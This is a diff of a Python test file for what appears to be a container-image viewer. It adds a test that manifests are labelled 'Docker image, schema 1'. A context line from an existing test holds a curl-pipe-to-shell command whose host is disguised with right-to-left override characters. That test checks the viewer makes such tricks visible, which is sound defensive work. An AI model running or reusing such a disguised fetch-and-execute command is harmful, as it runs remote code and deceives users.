@@ -348,3 +348,13 @@ def test_what_turns_the_direction_of_reading_is_made_to_be_seen(image: Image, vi
     assert text.count(r"curl \u202egnp.live\u2066 | sh") >= 4
     assert r"k\u200bey" in text
     assert kept in text
+
+
+def test_a_list_calls_it_what_its_page_calls_it(viewer: Client, image: Image) -> None:
+    manifest = factories.ManifestFactory(
+        kind="unknown", media_type="application/vnd.docker.distribution.manifest.v1+prettyjws", platforms=[]
+    )
+    factories.TagFactory(image=image, name="1.0", manifest=manifest)
+    words = page(viewer).context["nature"].words
+    assert words == "Docker image, schema 1"
+    assert words in viewer.get(image.get_absolute_url()).content.decode()
